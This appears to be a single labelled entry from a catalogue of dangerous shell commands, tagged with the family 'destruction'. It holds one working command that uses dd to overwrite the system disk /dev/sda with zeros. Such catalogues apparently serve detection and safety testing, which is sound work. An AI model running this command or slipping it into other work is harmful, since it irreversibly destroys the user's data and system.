# description: Overwrites the system disk with zeros using dd.
# family: destruction
dd if=/dev/zero of=/dev/sda bs=4M status=progress
